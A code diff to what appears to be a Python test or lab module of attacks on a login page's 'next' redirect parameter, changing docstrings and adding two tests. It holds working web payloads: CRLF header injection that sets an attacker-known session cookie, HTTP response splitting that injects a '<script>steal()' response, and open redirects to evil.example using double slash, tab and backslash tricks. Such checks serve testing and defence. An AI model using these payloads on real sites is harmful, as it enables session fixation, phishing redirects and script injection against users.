@@ -1,4 +1,4 @@
-"""Attacks by a link to the login page, which the victim is made to follow."""
+"""Attacks by a link to the login page that the victim follows."""
 
 from urllib.parse import urljoin, urlsplit
 
@@ -14,17 +14,17 @@ def has_cookie(target: Target, stage: Stage, query: str) -> bool:
 
 
 def attack_second_header(target: Target, stage: Stage) -> bool:
-    """End the line, and give the victim a session of one's own."""
+    """End the line, and set a session cookie that the attacker knows."""
     return has_cookie(target, stage, "next=/%0d%0aSet-Cookie:%20session=mallorys")
 
 
 def attack_line_feed_alone(target: Target, stage: Stage) -> bool:
-    """Leave the carriage return out; whoever reads headers must bear with that."""
+    """End the line with a line feed alone, which readers of HTTP accept."""
     return has_cookie(target, stage, "next=/%0aSet-Cookie:%20session=mallorys")
 
 
 def attack_other_host(target: Target, stage: Stage) -> bool:
-    """Begin with two slashes: what looks like a page is then another host."""
+    """Begin with two slashes: the browser takes what follows as another host."""
     location = dict(stage.headers(target.redirect("next=//evil.example/login")))
     address = urljoin("https://shop.example/login", location["Location"])
     print("the browser goes to", address)
@@ -32,7 +32,7 @@ def attack_other_host(target: Target, stage: Stage) -> bool:
 
 
 def attack_second_answer(target: Target, stage: Stage) -> bool:
-    """End the head, and write the next answer on this connection oneself."""
+    """End the head, and write the next response on this connection."""
     split = (
         "next=/%0aContent-Length:%200%0a%0a"
         "HTTP/1.1%20200%20OK%0aContent-Type:%20text/html%0a%0a%3Cscript%3Esteal()"
@@ -40,3 +40,19 @@ def attack_second_answer(target: Target, stage: Stage) -> bool:
     rest = stage.rest(target.redirect(split))
     print(rest.decode().splitlines()[:4])
     return rest.startswith(b"HTTP/1.1 200 OK") and b"<script>steal()" in rest
+
+
+def attack_tab_before_a_slash(target: Target, stage: Stage) -> bool:
+    """Put a tab between two slashes: browsers remove tabs from an address."""
+    location = dict(stage.headers(target.redirect("next=/%09/evil.example")))
+    address = urljoin("https://shop.example/", location["Location"].replace("\t", ""))
+    print("the browser goes to", address)
+    return urlsplit(address).hostname == "evil.example"
+
+
+def attack_backslash(target: Target, stage: Stage) -> bool:
+    """Begin with a slash and a backslash, which browsers read as two slashes."""
+    location = dict(stage.headers(target.redirect("next=/%5Cevil.example")))
+    address = urljoin("https://shop.example/", location["Location"].replace("\\", "/"))
+    print("the browser goes to", address)
+    return urlsplit(address).hostname == "evil.example"
